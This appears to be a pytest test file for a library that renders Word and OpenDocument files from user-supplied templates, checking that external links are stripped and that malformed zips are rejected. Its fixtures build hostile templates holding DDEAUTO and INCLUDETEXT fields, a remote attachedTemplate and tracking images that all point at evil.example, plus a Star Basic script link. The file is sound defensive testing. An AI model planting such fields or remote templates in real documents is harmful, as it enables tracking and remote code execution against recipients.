"""A template from anywhere: what leads out of it does not come into the paper, and the rest of its look does."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

import docx as python_docx
import pytest
from sample_document import document

from intlstrat.council.writers import docx, odt, office_zip
from intlstrat.council.writers.refused import Refused
from intlstrat.language import Language

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://evil.example/"
NB = Language("nb")


def parts_of(content: bytes | Refused) -> dict[str, bytes]:
    assert isinstance(content, bytes)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


def relations(*relation: str) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0"?><Relationships xmlns="{space}">{"".join(relation)}</Relationships>'.encode()


@pytest.fixture(scope="module")
def evil_docx() -> bytes:
    """A Word template with a footer of its own, and everything in it that could fetch."""
    made = python_docx.Document()
    footer = made.sections[0].footer
    footer.paragraphs[0].text = "Postboks 1"
    buffer = io.BytesIO()
    made.save(buffer)
    parts = parts_of(buffer.getvalue())
    (name,) = (name for name in parts if name.startswith("word/footer"))
    fetch = f'<w:p><w:r><w:instrText>INCLUDETEXT "{EVIL}x"</w:instrText></w:r></w:p>'
    fetch += f"<w:p><w:fldSimple w:instr='DDEAUTO \"{EVIL}y\"'/><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"
    fetch += f'<w:p xmlns:q="{R}"><w:r><w:pict q:link="rId99"/></w:r></w:p>'
    parts[name] = parts[name].replace(b"</w:ftr>", f"{fetch}</w:ftr>".encode())
    image = f'<Relationship Id="rId99" Type="{R}/image" Target="{EVIL}pixel.png" TargetMode="&#69;xternal"/>'
    parts[f"word/_rels/{name.removeprefix('word/')}.rels"] = relations(image)
    attached = f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="{EVIL}t.dotm" TargetMode="External"/>'
    parts["word/_rels/settings.xml.rels"] = relations(attached)
    element = f'<w:attachedTemplate xmlns:r="{R}" r:id="rId1"/></w:settings>'
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(b"</w:settings>", element.encode())
    return packed(parts)


@pytest.fixture(scope="module")
def evil_odt() -> bytes:
    parts = parts_of(odt.render(document(), NB))
    link = "http://www.w3.org/1999/xlink"
    fetch = (
        '<style:footer><text:p>Postboks 1<draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0">'
        f'<draw:image xmlns:q="{link}" q:href="{EVIL}pixel.png"/></draw:frame>'
        f"<text:a xmlns:xlink=\"{link}\" xlink:href='vnd.sun.star.script:x'>a</text:a></text:p>"
    )
    styles = parts["styles.xml"].decode()
    assert "<style:footer>" in styles
    parts["styles.xml"] = styles.replace("<style:footer>", fetch, 1).encode()
    parts["settings.xml"] = (
        b'<?xml version="1.0"?><office:document-settings '
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.3">LinkUpdateMode'
        b"</office:document-settings>"
    )
    return packed(parts)


def test_nothing_of_a_word_template_leads_out(evil_docx: bytes) -> None:
    made = docx.render(document(), NB, evil_docx)
    parts = parts_of(made)
    said = b"\n".join(parts.values())
    for word in (b"evil.example", b"attachedTemplate", b"INCLUDETEXT", b"DDEAUTO", b"xternal", b"rId99"):
        assert word not in said
    footers = [part for name, part in parts.items() if name.startswith("word/footer")]
    assert any(b"Postboks 1" in part and b">PAGE<" in part for part in footers)
    assert isinstance(made, bytes)
    assert python_docx.Document(io.BytesIO(made)).paragraphs[0].text


def test_nothing_of_an_opendocument_template_leads_out(evil_odt: bytes) -> None:
    parts = parts_of(odt.render(document(), NB, evil_odt))
    said = b"\n".join(parts.values())
    for word in (b"evil.example", b"vnd.sun.star", b"LinkUpdateMode"):
        assert word not in said
    assert b"Postboks 1" in parts["styles.xml"]


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1"])
def test_a_part_in_another_encoding_could_hide_something_and_is_refused(evil_docx: bytes, encoding: str) -> None:
    parts = parts_of(evil_docx)
    text = parts["word/settings.xml"].decode("utf-8").replace("UTF-8", encoding)
    parts["word/settings.xml"] = text.encode(encoding)
    assert isinstance(docx.render(document(), NB, packed(parts)), Refused)


def test_a_zip_file_that_lies_about_its_sizes_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_zip, "LARGEST", 1000)
    honest = packed({"a": b"x" * 900})
    assert office_zip.unpack(honest) == {"a": b"x" * 900}
    large = bytearray(packed({"a": b"x" * 50_000}))
    directory = large.rindex(b"PK\x01\x02")
    struct.pack_into("<I", large, directory + 24, 10)  # the size that the directory gives
    assert office_zip.unpack(bytes(large)) is None
